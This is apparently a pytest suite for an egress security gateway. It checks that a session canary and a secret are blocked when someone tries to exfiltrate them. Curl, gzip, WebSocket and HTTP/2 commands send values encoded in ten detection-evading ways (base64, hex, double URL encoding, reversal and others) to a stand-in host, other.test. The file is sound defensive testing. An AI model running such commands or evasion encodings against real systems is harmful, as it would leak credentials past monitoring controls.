"""Exfiltration through the gateway end to end: a session canary and a session secret's real value,
in each encoding of the detection engine, over each channel (query, header, cookie, JSON, form,
multipart, gzip, WebSocket, HTTP/2, split across two fields). The origin must receive no form of them.
"""

from __future__ import annotations

import base64
import json
import quopri
import secrets
import urllib.parse

import pytest
import yaml

from advcase import Case, curl, params, refused, run_case, sh, vpy

CANARY = "canary-" + secrets.token_hex(12)
REAL = "sk-proj-" + secrets.token_hex(20)

RULES = """
- name: allowed
  hosts: [{matchName: allowed.test}, {matchName: other.test}]
"""

ENCODINGS = {
    "raw": lambda v: v,
    "base64": lambda v: base64.b64encode(v.encode()).decode(),
    "base64url": lambda v: base64.urlsafe_b64encode(v.encode()).decode().rstrip("="),
    "base32": lambda v: base64.b32encode(v.encode()).decode(),
    "hex": lambda v: v.encode().hex(),
    "url": lambda v: "".join(f"%{b:02X}" for b in v.encode()),
    "url2": lambda v: "".join(f"%25{b:02X}" for b in v.encode()),
    "json-u": lambda v: "".join(f"\\u{ord(c):04x}" for c in v),
    "qp": lambda v: "".join(f"={b:02X}" for b in v.encode()),
    "reversed": lambda v: v[::-1],
}

WS = r"""
import os, socket, ssl, sys
from wsproto import ConnectionType, WSConnection
from wsproto.events import AcceptConnection, Request, TextMessage
ctx = ssl.create_default_context(cafile=os.environ["SSL_CERT_FILE"])
sock = ctx.wrap_socket(socket.create_connection(("other.test", 443), timeout=5), server_hostname="other.test")
ws = WSConnection(ConnectionType.CLIENT)
sock.sendall(ws.send(Request(host="other.test", target="/ws")))
while not any(isinstance(e, AcceptConnection) for e in ws.events()):
    ws.receive_data(sock.recv(65536))
sock.sendall(ws.send(TextMessage(data="note " + sys.argv[1])))
print(sock.recv(1000)[:200])
"""

URL = "https://other.test/echo/MARK"


def channel(name: str) -> object:
    """An attack sending {V} (the encoded value) over `name`."""
    return {
        "query": curl(URL + "?q=hello&d={V}"),
        "header": curl(URL, "-H", "X-Trace: {V}"),
        "cookie": curl(URL, "-H", "Cookie: theme=dark; sid={V}"),
        "json": curl(URL, "-H", "Content-Type: application/json", "--data", '{"note": "{V}", "n": 1}'),
        "form": curl(URL, "--data", "a=1&b={V}"),
        "multipart": curl(URL, "-F", "f={V}", "-F", "g=plain"),
        "gzip": sh("printf 'log line %s end' '{V}' | gzip | curl -sS -m 10 -H 'Content-Encoding: gzip' "
                   "--data-binary @- " + URL),
        "ws": vpy(WS, "{V}", user="root"),
        "h2": curl("--http2", URL, "-H", "Content-Type: application/json", "--data", '{"k": "{V}"}'),
        "split": curl(URL, "-H", "X-A: {V1}", "-H", "X-B: {V2}"),
    }[name]


CHANNELS = ["query", "header", "cookie", "json", "form", "multipart", "gzip", "ws", "h2", "split"]
# Every encoding once, every channel at least twice, the canary and the secret alternately.
PAIRS = [(enc, CHANNELS[i % len(CHANNELS)], ("canary", "secret")[i % 2]) for i, enc in enumerate(ENCODINGS)]
PAIRS += [("base64", ch, ("secret", "canary")[i % 2]) for i, ch in enumerate(CHANNELS)]
# url-encoded forms only make sense where a decoder expects them; JSON escapes only in JSON
PAIRS = [(e, "json" if e == "json-u" else c, w) for e, c, w in PAIRS]
PAIRS = list(dict.fromkeys(PAIRS))
LOG = {"decision": "deny", "reason": "exfiltration", "alert": True}
CASES = [Case(f"{what}-{enc}-{ch}", channel(ch), {"kind": "ws"} if ch == "ws" else {"host": "other.test"},
              {**LOG, "event": "http"} if ch != "ws" else {**LOG, "method": "WEBSOCKET"},
              note=f"{enc}|{what}") for enc, ch, what in PAIRS]


@pytest.fixture(scope="module")
def gateway_env():
    return {"EGW_ADV_DETECT": REAL}


@pytest.fixture(scope="module")
def box(sandboxes, gateway):
    secrets_file = gateway.dir / "adv-detect-secrets.yaml"
    secrets_file.write_text(yaml.safe_dump([{"name": "KEY", "source": "env://EGW_ADV_DETECT",
                                             "hosts": [{"matchName": "allowed.test"}]}]))
    box = sandboxes.up(RULES, "enforce", "--secrets", str(secrets_file))
    canaries = gateway.dir / "adv-canaries.txt"
    canaries.write_text(CANARY + "\n")
    gateway.cli("session", "canary", box.session, str(canaries), "--label", "adv")
    return box


def all_forms(value: str) -> tuple[str, ...]:
    return tuple(f(value) for f in ENCODINGS.values()) + (json.dumps(value), quopri.encodestring(value.encode()).decode())


@pytest.mark.parametrize("case", params(CASES))
def test_exfiltration_is_blocked(case, box, lab, leak_counter):
    enc, what = case.note.split("|")
    value = {"canary": CANARY, "secret": REAL}[what]
    encoded = ENCODINGS[enc](value)
    half = len(encoded) // 2
    subst = {"V": encoded, "V1": encoded[:half], "V2": encoded[half:]}
    if case.id.endswith("-split"):
        subst["V"] = encoded
    run_case(case, box, lab, leak_counter, subst, secrets=tuple(f for f in all_forms(value) if len(f) >= 16))
